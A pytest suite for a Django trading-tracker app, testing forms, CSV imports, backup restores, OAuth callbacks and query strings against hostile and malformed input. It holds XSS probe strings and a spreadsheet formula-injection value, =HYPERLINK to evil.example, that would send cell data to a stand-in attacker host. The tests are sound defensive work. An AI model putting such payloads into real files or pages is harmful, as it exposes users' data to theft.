"""Every form and upload against oversized, malformed and hostile input.

The answer is always a clear message (a 200 with the form's errors, a redirect with a message, or a 4xx),
never a 500; a refused submission stores nothing, not even part of itself; and whatever is stored is shown
escaped: `<script>alert(1)</script>` never comes back raw. The forms are those of apps/*/forms.py and the
query strings of the filtered pages.
"""

import json
import re
from datetime import date, timedelta

import pytest
from django.core.cache import cache
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from apps.accounts.models import User
from apps.reports.tests.factories import BrokerAccountFactory, make_trading_history
from apps.tastytrade_sync.models import Connection
from apps.trades import forms as trade_forms
from apps.trades.models import BrokerAccount, Note, Position, StrategyOverride, Tag, Transaction
from apps.trades.tests.factories import SoldPutFillFactory
from simulator import Scenario, Simulator

SCRIPT = "<script>alert(1)</script>"
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
IMG = "<img src=x onerror=alert(1)>"  # what a file name can carry (a "/" would be cut off as a path)
IMG_ESCAPED = "&lt;img src=x onerror=alert(1)&gt;"
NUL = "a\x00b"
HUGE = "9" * 40
CSV_HEADER = (
    "Date,Type,Sub Type,Action,Symbol,Instrument Type,Description,Value,Quantity,Average Price,Commissions,Fees,"
    "Multiplier,Root Symbol,Underlying Symbol,Expiration Date,Strike Price,Call or Put,Order #,Total,Currency"
)
FILTERED_PAGES = [
    "dashboard:home",
    "dashboard:positions",
    "dashboard:transactions",
    "trades:list",
    "reports:home",
    "reports:cash_flow_csv",
    "reports:transactions_csv",
    "reports:positions_csv",
    "reports:pnl_csv",
    "reports:pnl_events_csv",
    "reports:trades_csv",
    "reports:income",
    "reports:income_csv",
    "reports:transfers",
    "reports:transfers_csv",
]


@pytest.fixture
def browser(user) -> Client:
    """Signed in, and a crash comes back as the 500 it would be for a visitor instead of raising."""
    client = Client(raise_request_exception=False)
    client.force_login(user)
    cache.clear()
    return client


def text(response) -> str:
    content = b"".join(response.streaming_content) if response.streaming else response.content
    return content.decode()


def assert_safe(response) -> str:
    """Not a 500, and no markup of ours comes back unescaped in HTML. Other answers (CSV, JSON) are data with
    their own content type, which nosniff keeps browsers from reading as HTML."""
    assert response.status_code < 500, response.status_code
    content = text(response)
    if response.get("Content-Type", "").startswith("text/html"):
        for markup in (SCRIPT, IMG):
            assert markup.lower() not in content.lower()
    else:
        assert response["X-Content-Type-Options"] == "nosniff"
    return content


def messages_of(response) -> str:
    return " ".join(str(message) for message in response.context["messages"])


# -- Profile ----------------------------------------------------------------------------------------------


def test_a_display_name_with_html_is_stored_as_typed_and_shown_escaped(browser, user):
    response = browser.post(reverse("accounts:profile"), {"display_name": SCRIPT, "time_zone": "UTC"})
    assert response.status_code == 302
    user.refresh_from_db()
    assert user.display_name == SCRIPT
    for name in ["accounts:profile", "dashboard:home", "tastytrade_sync:page", "reports:home"]:
        assert ESCAPED in assert_safe(browser.get(reverse(name))), name  # the menu shows the name


@pytest.mark.parametrize(
    ("field", "value", "error"),
    [
        ("display_name", "x" * 10_000, "at most 100 characters"),
        ("display_name", NUL, "Null characters are not allowed"),
        ("time_zone", SCRIPT, "Select a valid choice"),
        ("time_zone", "Mars/Olympus_Mons", "Select a valid choice"),
        ("time_zone", NUL, "Select a valid choice"),
    ],
)
def test_a_bad_profile_field_is_an_error_and_nothing_is_saved(browser, user, field, value, error):
    data = {"display_name": "Alice", "time_zone": "Europe/Paris", "sync_on_login": "on", field: value}
    response = browser.post(reverse("accounts:profile"), data)
    assert response.status_code == 200 and error in assert_safe(response)
    user.refresh_from_db()
    assert (user.display_name, user.time_zone) == ("", "America/New_York")


def test_a_request_body_over_the_limit_is_a_413(browser, user):
    response = browser.post(reverse("accounts:profile"), {"display_name": "x" * 3_000_000, "time_zone": "UTC"})
    assert response.status_code == 413
    user.refresh_from_db()
    assert user.display_name == ""


def test_hostile_input_to_delete_my_account_deletes_nothing(browser, user):
    for email in [SCRIPT, NUL, "x" * 100_000, user.email + "\x00"]:
        assert_safe(browser.post(reverse("accounts:delete"), {"email": email}))
    assert User.objects.filter(pk=user.pk).exists()


# -- Connect (the personal grant form) and the OAuth round trip ----------------------------------------------


@pytest.fixture
def simulator_url(settings):
    sim = Simulator(Scenario(seed=3, accounts=1, start=date.today() - timedelta(days=29), days=30))
    with sim.serve() as server:
        settings.TASTYTRADE_SIMULATOR_URL = server.url
        yield sim


def grant(sim: Simulator, **changes) -> dict:
    return {
        "label": "Main",
        "environment": "simulator",
        "client_secret": sim.client_secret,
        "refresh_token": sim.refresh_token,
        **changes,
    }


def test_a_connection_label_with_html_is_shown_escaped(browser, simulator_url):
    response = browser.post(reverse("tastytrade_sync:connect"), grant(simulator_url, label=SCRIPT))
    assert response.status_code == 302
    connection = Connection.objects.get()
    assert connection.label == SCRIPT
    for url in [reverse("tastytrade_sync:page"), reverse("tastytrade_sync:connection", args=[connection.pk])]:
        assert ESCAPED in assert_safe(browser.get(url)), url
    assert_safe(browser.get(reverse("dashboard:home")))


@pytest.mark.parametrize(
    ("changes", "error"),
    [
        ({"label": "x" * 101}, "at most 100 characters"),
        ({"label": NUL}, "Null characters are not allowed"),
        ({"environment": SCRIPT}, "Select a valid choice"),
        ({"client_secret": "s" * 501}, "at most 500 characters"),
        ({"client_secret": NUL}, "Null characters are not allowed"),
        ({"refresh_token": "t" * 4001}, "at most 4000 characters"),
        ({"refresh_token": "abc def"}, "has no spaces"),
        ({"refresh_token": NUL}, "Null characters are not allowed"),
        ({"refresh_token": SCRIPT, "label": SCRIPT}, "TastyTrade refused this client secret and refresh token"),
        ({"client_secret": "wrong", "label": SCRIPT}, "TastyTrade refused this client secret and refresh token"),
    ],
)
def test_a_bad_grant_is_an_error_and_nothing_is_stored(browser, simulator_url, changes, error):
    response = browser.post(reverse("tastytrade_sync:connect"), grant(simulator_url, **changes))
    assert response.status_code == 200 and error in assert_safe(response)
    assert (Connection.objects.count(), BrokerAccount.objects.count()) == (0, 0)


@pytest.fixture
def oauth(settings):
    settings.TASTYTRADE_CLIENT_ID = "tracker"
    settings.TASTYTRADE_CLIENT_SECRET = "tracker-secret"
    settings.TASTYTRADE_REDIRECT_URI = "http://testserver/sync/connect/callback/"


def test_the_connect_page_offers_connect_with_tastytrade_when_it_is_configured(browser, oauth):
    response = browser.get(reverse("tastytrade_sync:connect"))
    assert response.status_code == 200 and reverse("tastytrade_sync:oauth_start").encode() in response.content


@pytest.mark.parametrize("environment", [SCRIPT, NUL, HUGE, ""])
def test_starting_oauth_with_a_bad_environment_is_404(browser, oauth, environment):
    response = browser.post(reverse("tastytrade_sync:oauth_start"), {"environment": environment})
    assert response.status_code == 404
    assert "tastytrade_oauth" not in browser.session


@pytest.mark.parametrize(
    "state", ["é" * 10, SCRIPT, NUL, "x" * 100_000, ""], ids=["accents", "html", "nul", "long", "empty"]
)
def test_an_oauth_callback_with_a_forged_state_is_sent_back_with_a_message(browser, user, oauth, state):
    session = browser.session
    session["tastytrade_oauth"] = {"state": "the-real-state", "environment": "production"}
    session.save()
    response = browser.get(reverse("tastytrade_sync:oauth_callback"), {"state": state, "code": SCRIPT}, follow=True)
    assert response.status_code == 200
    assert "not started here or has expired" in messages_of(response)
    assert Connection.objects.count() == 0


# -- CSV upload ------------------------------------------------------------------------------------------


def csv_file(*rows: str, name: str = "5WT00001.csv") -> SimpleUploadedFile:
    content = "\n".join([CSV_HEADER, *rows]) + "\n"
    return SimpleUploadedFile(name, content.encode(), content_type="text/csv")


def dividend(description: str = "COCA COLA CO", value: str = "15.30", when: str = "2026-03-31T14:00:00-0700") -> str:
    return f'{when},Money Movement,Dividend,,KO,Equity,"{description}",{value},0,,--,0.00,,,,,,,,{value},USD'


def upload(client, *files, account_number="5WT00001", **extra):
    return client.post(reverse("trades:import_csv"), {"files": list(files), "account_number": account_number, **extra})


def token_of(response) -> str:
    return re.search(r"/trades/import/([\w-]+)/", response.url)[1]


def test_html_in_a_csv_and_its_file_name_is_shown_escaped_from_preview_to_ledger(browser):
    response = upload(browser, csv_file(dividend(description=SCRIPT), name=f"{IMG}.csv"), account_number="5WT00001")
    token = token_of(response)
    preview = assert_safe(browser.get(reverse("trades:import_preview", args=[token])))
    assert IMG_ESCAPED in preview  # the file name
    assert IMG_ESCAPED in assert_safe(browser.post(reverse("trades:import_confirm", args=[token]), follow=True))
    assert Transaction.objects.get().description == SCRIPT
    assert ESCAPED in assert_safe(browser.get(reverse("dashboard:transactions"), {"start": ""}))


def test_a_cell_a_spreadsheet_would_run_is_exported_as_text(browser):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    token = token_of(upload(browser, csv_file(dividend(description=formula.replace('"', '""')))))
    browser.post(reverse("trades:import_confirm", args=[token]))
    assert Transaction.objects.get().description == formula
    exported = assert_safe(browser.get(reverse("reports:transactions_csv"), {"start": ""}))
    assert "'=HYPERLINK" in exported and ",=HYPERLINK" not in exported


@pytest.mark.parametrize(
    ("bad_row", "problem"),
    [
        (dividend(value=HUGE), "too large"),
        (dividend(value="1e308"), "not a number"),
        (dividend(value="NaN"), "not a number"),
        (dividend(when="2026-02-30T14:00:00-0700"), "Date"),
        (dividend(when="99999-01-01T00:00:00-0700"), "Date"),
        (dividend(when=SCRIPT), "Date"),
        (dividend(description=NUL), "NUL"),
    ],
)
def test_a_file_with_one_bad_row_imports_nothing_and_says_which(browser, bad_row, problem):
    token = token_of(upload(browser, csv_file(dividend(), bad_row, dividend(value="1.00"))))
    preview = assert_safe(browser.get(reverse("trades:import_preview", args=[token])))
    assert problem in preview and "nothing from this file is imported" in preview
    assert_safe(browser.post(reverse("trades:import_confirm", args=[token]), follow=True))
    assert Transaction.objects.count() == 0
    assert not BrokerAccount.objects.exists()


@pytest.mark.parametrize(
    "content",
    [b"\xff\xfe\x00\x00garbage\x9c\x80", b"\x00" * 1000, b'"unclosed,quote\n' * 3, SCRIPT.encode(), b""],
)
def test_a_file_that_is_not_an_export_is_refused_in_plain_words(browser, content):
    response = upload(browser, SimpleUploadedFile("5WT00001.csv", content, content_type="text/csv"))
    if response.status_code == 200:  # an empty file is refused by the form itself
        assert "The submitted file is empty" in assert_safe(response)
    else:
        token = token_of(response)
        preview = assert_safe(browser.get(reverse("trades:import_preview", args=[token])))
        assert "not imported" in preview
        assert_safe(browser.post(reverse("trades:import_confirm", args=[token]), follow=True))
    assert Transaction.objects.count() == 0


def test_an_oversized_file_is_refused_by_the_form(browser):
    big = SimpleUploadedFile("5WT00001.csv", b"x" * (trade_forms.MAX_FILE_SIZE + 1), content_type="text/csv")
    response = upload(browser, big)
    assert response.status_code == 200 and "the limit is 1.0" in assert_safe(response)


def test_too_many_files_are_refused_by_the_form(browser):
    files = [csv_file(dividend(), name=f"5WT00001-{n}.csv") for n in range(trade_forms.MAX_FILES + 1)]
    response = upload(browser, *files)
    assert response.status_code == 200 and f"at most {trade_forms.MAX_FILES} files" in assert_safe(response)


@pytest.mark.parametrize(
    ("account_number", "error"),
    [
        (SCRIPT, "An account number has only letters and digits"),
        ("5WT 0001", "An account number has only letters and digits"),
        (NUL, "Null characters are not allowed"),
        ("X" * 33, "at most 32 characters"),
        (HUGE, "at most 32 characters"),
    ],
)
def test_a_bad_account_number_is_a_form_error(browser, account_number, error):
    response = upload(browser, csv_file(dividend()), account_number=account_number)
    assert response.status_code == 200 and error in assert_safe(response)
    assert not BrokerAccount.objects.exists()


def test_hostile_query_strings_on_the_import_preview_are_harmless(browser):
    token = token_of(upload(browser, csv_file(dividend())))
    for value in [SCRIPT, NUL, HUGE]:
        assert_safe(browser.get(reverse("trades:import_preview", args=[token]), {"skip_bad_rows": value}))


# -- Tags, notes and the strategy override (the Trades tab) ------------------------------------------------


@pytest.fixture
def position(user) -> Position:
    return Position.objects.filter(account=make_trading_history(user)).first()


def intent_url(name: str, position: Position, **kwargs) -> str:
    return reverse(name, kwargs={"account": position.account_id, "target": "position", "key": position.key, **kwargs})


def position_url(position: Position) -> str:
    return reverse("trades:detail", kwargs={"account": position.account_id, "key": position.key})


def test_a_tag_and_a_note_with_html_are_stored_as_typed_and_shown_escaped(browser, position):
    browser.post(intent_url("trades:add_tag", position), {"name": SCRIPT})
    browser.post(intent_url("trades:add_note", position), {"text": SCRIPT})
    assert (Tag.objects.get().name, Note.objects.get().text) == (SCRIPT, SCRIPT)
    assert ESCAPED in assert_safe(browser.get(position_url(position)))
    assert ESCAPED in assert_safe(browser.get(reverse("trades:list"), {"start": ""}))  # the tag on the list
    assert_safe(browser.get(reverse("trades:list"), {"start": "", "tag": SCRIPT}))
    assert_safe(browser.get(reverse("reports:trades_csv"), {"start": "", "tag": SCRIPT}))


@pytest.mark.parametrize(
    ("name", "data", "said"),
    [
        ("trades:add_tag", {"name": "x" * 51}, "at most 50 characters"),
        ("trades:add_tag", {"name": NUL}, "Null characters are not allowed"),
        ("trades:add_tag", {"name": " \t "}, "This field is required"),
        ("trades:add_note", {"text": "x" * 5001}, "at most 5000 characters"),
        ("trades:add_note", {"text": NUL}, "Null characters are not allowed"),
        ("trades:add_note", {"text": " \n "}, "This field is required"),
    ],
    ids=["long tag", "NUL tag", "blank tag", "long note", "NUL note", "blank note"],
)
def test_a_bad_tag_or_note_is_refused_in_words_and_nothing_is_stored(browser, position, name, data, said):
    response = browser.post(intent_url(name, position), data, follow=True)
    assert said in messages_of(response)
    assert_safe(response)
    assert not Tag.objects.exists() and not Note.objects.exists()


@pytest.mark.parametrize("text", ["x" * 5001, NUL, "  "], ids=["long", "NUL", "blank"])
def test_a_bad_edit_leaves_the_note_as_it_was(browser, position, text):
    note = Note.objects.create(account=position.account, target="position", key=position.key, text="Keep me")
    response = browser.post(intent_url("trades:edit_note", position, note=note.pk), {"text": text}, follow=True)
    assert "The note was not changed" in messages_of(response)
    note.refresh_from_db()
    assert note.text == "Keep me"


@pytest.mark.parametrize("name", [SCRIPT, NUL, "x" * 10_000], ids=["html", "NUL", "long"])
def test_removing_a_tag_that_is_not_there_is_harmless(browser, position, name):
    Tag.objects.create(account=position.account, target="position", key=position.key, name="earnings")
    assert_safe(browser.post(intent_url("trades:remove_tag", position), {"name": name}, follow=True))
    assert Tag.objects.get().name == "earnings"


@pytest.mark.parametrize("strategy", [SCRIPT, NUL, HUGE, "covered_call "], ids=["html", "NUL", "huge", "space"])
def test_an_unknown_strategy_is_refused_and_the_detected_one_stays(browser, position, strategy):
    url = reverse("trades:set_strategy", kwargs={"account": position.account_id, "key": position.key})
    response = browser.post(url, {"strategy": strategy}, follow=True)
    assert "Choose one of the listed strategies" in messages_of(response)
    assert not StrategyOverride.objects.exists()
    position.refresh_from_db()
    assert position.strategy == position.detected_strategy


@pytest.mark.parametrize("target", [IMG, "lot", NUL], ids=["html", "lot", "NUL"])
def test_a_tag_on_something_that_is_not_a_trade_is_404(browser, position, target):
    url = reverse("trades:add_tag", kwargs={"account": position.account_id, "target": target, "key": position.key})
    assert browser.post(url, {"name": "x"}).status_code == 404
    assert not Tag.objects.exists()


# -- Restore from a backup --------------------------------------------------------------------------------


def backup_file(**tables) -> SimpleUploadedFile:
    content = {"format": "tastytrade-tracker-backup", "version": 1, "broker_accounts": [], **tables}
    return SimpleUploadedFile("backup.json", json.dumps(content).encode(), content_type="application/json")


def account_row(**changes) -> dict:
    return {"id": 1, "account_number": "5WT00001", "nickname": "Individual", **changes}


def transaction_row(n: int = 1, **changes) -> dict:
    return {
        "id": n,
        "account": 1,
        "tastytrade_id": 500_000 + n,
        "transaction_type": "Money Movement",
        "transaction_sub_type": "Deposit",
        "description": "Deposit",
        "value": "100.00",
        "net_value": "100.00",
        "executed_at": "2026-01-02T15:00:00+00:00",
        "transaction_date": "2026-01-02",
        "raw": {"id": 500_000 + n},
        **changes,
    }


def restore(client, upload) -> tuple:
    response = client.post(reverse("reports:restore"), {"backup": upload, "confirm": "on"}, follow=True)
    assert_safe(response)
    return response, messages_of(response)


def test_hostile_text_in_a_backup_is_restored_as_text_and_shown_escaped(browser):
    upload = backup_file(
        broker_accounts=[account_row(nickname=SCRIPT)],
        transactions=[transaction_row(description=SCRIPT, symbol=SCRIPT[:64])],
        tags=[{"id": 1, "account": 1, "target": "position", "key": "k", "name": SCRIPT}],
        notes=[{"id": 1, "account": 1, "target": "position", "key": "k", "text": SCRIPT * 100}],
    )
    _, said = restore(browser, upload)
    assert "Restored 1 account(s) with 1 transactions" in said
    assert (Tag.objects.get().name, BrokerAccount.objects.get().nickname) == (SCRIPT, SCRIPT)
    for name in [*FILTERED_PAGES, "tastytrade_sync:page", "accounts:profile"]:
        assert_safe(browser.get(reverse(name), {"start": ""}))
    assert ESCAPED in text(browser.get(reverse("dashboard:home")))  # the account picker shows the nickname


@pytest.mark.parametrize(
    ("content", "said"),
    [
        (b"not json at all", "is not JSON"),
        (b"\xff\xfe\x00garbage", "is not JSON"),
        (b"[1, 2, 3]", "not a TastyTrade Tracker backup"),
        (json.dumps({"format": SCRIPT}).encode(), "not a TastyTrade Tracker backup"),
        (json.dumps({"format": "tastytrade-tracker-backup", "version": 10**30}).encode(), "this site reads up to"),
        (json.dumps({"format": "tastytrade-tracker-backup", "version": 1, "tags": "x"}).encode(), "not a list"),
        (b"x" * 3_000_000, "is not JSON"),
        (b"[" * 100_000 + b"]" * 100_000, "is not JSON"),
    ],
    ids=["text", "binary", "a list", "another format", "a huge version", "a table not a list", "3 MB", "deep"],
)
def test_a_file_that_is_not_a_backup_restores_nothing(browser, content, said):
    upload = SimpleUploadedFile("backup.json", content, content_type="application/json")
    _, messages = restore(browser, upload)
    assert "Nothing was restored" in messages and said in messages
    assert not BrokerAccount.objects.exists()


BAD_ROWS = {
    "a huge amount": {"transactions": [transaction_row(), transaction_row(2, net_value=HUGE)]},
    "an amount in exponent form": {"transactions": [transaction_row(), transaction_row(2, value="1e30")]},
    "too many decimal places": {"transactions": [transaction_row(), transaction_row(2, value="1.123456789")]},
    "a huge id": {"transactions": [transaction_row(), transaction_row(2, tastytrade_id=10**30)]},
    "an impossible date": {"transactions": [transaction_row(), transaction_row(2, executed_at="2026-02-30T10:00Z")]},
    "a date out of range": {"transactions": [transaction_row(), transaction_row(2, transaction_date="99999-01-01")]},
    "a symbol too long": {"transactions": [transaction_row(), transaction_row(2, symbol="X" * 65)]},
    "a NUL in a description": {"transactions": [transaction_row(), transaction_row(2, description=NUL)]},
    "a NUL in a tag": {"tags": [{"id": 1, "account": 1, "target": "position", "key": "k", "name": NUL}]},
    "an unknown strategy": {
        "strategy_overrides": [{"id": 1, "account": 1, "position_key": "k", "strategy": SCRIPT[:20]}]
    },
    "a row of an unknown account": {"transactions": [transaction_row(account=99)]},
}
BAD_ACCOUNTS = {
    "an account number too long": account_row(account_number="X" * 33),
    "a NUL in an account number": account_row(account_number="5WT\x0001"),
    "an account with no number": account_row(account_number=""),
    "a nickname too long": account_row(nickname="x" * 101),
}


@pytest.mark.parametrize("case", list(BAD_ROWS) + list(BAD_ACCOUNTS))
def test_a_backup_with_one_bad_value_restores_nothing_and_keeps_what_was_there(browser, user, case):
    mine = BrokerAccountFactory(user=user, account_number="5WT00001")
    SoldPutFillFactory.create_batch(3, account=mine)
    tables = BAD_ROWS.get(case, {})
    accounts = [BAD_ACCOUNTS.get(case, account_row()), account_row(id=2, account_number="5WT00002")]
    _, said = restore(browser, backup_file(broker_accounts=accounts, **tables))
    assert "Nothing was restored" in said, said
    assert list(BrokerAccount.objects.values_list("account_number", flat=True)) == ["5WT00001"]
    assert Transaction.objects.filter(account=mine).count() == 3
    assert not Tag.objects.exists() and not Note.objects.exists()


def test_a_restore_without_a_file_or_the_confirmation_is_a_message(browser):
    response = browser.post(reverse("reports:restore"), {"confirm": SCRIPT}, follow=True)
    assert "Choose a backup file" in messages_of(response)
    assert_safe(response)


# -- The filtered pages' query strings --------------------------------------------------------------------


HOSTILE_QUERIES = [
    {"start": "2024-02-30"},
    {"start": "2024-13-01", "end": "garbage"},
    {"start": SCRIPT, "end": SCRIPT},
    {"start": NUL},
    {"start": "99999-01-01"},
    {"start": "0001-01-01"},
    {"end": "9999-12-31"},
    {"start": "0001-01-01", "end": "9999-12-31"},
    {"start": "2026-12-31", "end": "2026-01-01"},
    {"start": HUGE},
    {"group": SCRIPT},
    {"group": NUL},
    {"type": SCRIPT, "sub_type": NUL},
    {"underlying": SCRIPT, "symbol": SCRIPT},
    {"underlying": "x" * 10_000, "symbol": NUL},
    {"page": HUGE},
    {"page": "-1"},
    {"page": SCRIPT},
    {"show": SCRIPT, "status": NUL, "strategy": SCRIPT, "tag": NUL},
    {"tag": SCRIPT, "by": SCRIPT},
]
EXTREME_DATES = [q for q in HOSTILE_QUERIES if "0001" in str(q) or "9999" in str(q)]


@pytest.fixture
def ledger(user):
    account = BrokerAccountFactory(user=user)
    SoldPutFillFactory.create_batch(3, account=account)
    return account


@pytest.mark.parametrize("query", HOSTILE_QUERIES, ids=str)
def test_hostile_query_strings_on_filtered_pages_are_harmless(browser, ledger, query):
    for name in FILTERED_PAGES:
        response = browser.get(reverse(name), query)
        assert response.status_code == 200, (name, query, response.status_code)
        assert_safe(response)


@pytest.mark.parametrize("time_zone", ["Pacific/Kiritimati", "Etc/GMT+12"])  # UTC+14 and UTC-12
@pytest.mark.parametrize("query", EXTREME_DATES, ids=str)
def test_the_first_and_last_dates_there_are_work_in_every_time_zone(browser, user, ledger, time_zone, query):
    User.objects.filter(pk=user.pk).update(time_zone=time_zone)
    for name in FILTERED_PAGES:
        assert browser.get(reverse(name), query).status_code == 200, (name, query)


@pytest.mark.parametrize("account", [SCRIPT, NUL, HUGE, "-1", "1.5"])
def test_a_bad_account_in_the_query_string_is_404(browser, ledger, account):
    for name in FILTERED_PAGES:
        assert browser.get(reverse(name), {"account": account}).status_code == 404


@pytest.mark.parametrize(
    "name", ["tastytrade_sync:connection", "tastytrade_sync:run_status", "tastytrade_sync:disconnect"]
)
def test_an_id_too_large_for_the_database_is_404(browser, name):
    method = browser.post if name.endswith("disconnect") else browser.get
    assert method(reverse(name, args=[10**30])).status_code == 404


@pytest.mark.parametrize("key", [NUL, IMG, "x" * 5000], ids=["NUL", "html", "long"])
@pytest.mark.parametrize("name", ["trades:detail", "trades:chain"])
def test_a_made_up_trade_key_is_404(browser, position, name, key):
    assert browser.get(reverse(name, kwargs={"account": position.account_id, "key": key})).status_code == 404


def test_a_made_up_import_token_is_404(browser):
    for token in ["x" * 5000, "-", "0"]:
        assert browser.get(reverse("trades:import_preview", args=[token])).status_code == 404
